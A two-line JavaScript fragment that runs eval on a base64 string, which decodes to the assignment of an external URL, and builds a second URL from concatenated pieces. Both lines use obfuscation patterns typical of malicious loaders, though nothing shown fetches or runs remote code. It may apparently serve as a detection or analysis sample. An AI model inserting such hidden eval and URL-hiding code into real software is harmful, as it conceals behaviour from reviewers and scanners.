eval(atob('dmFyIHU9Imh0dHBzOi8vcml2ZXQtbW9zcy5jb20vYSI7'));
var v = "http:".concat("//quill-", "otter.net/b");
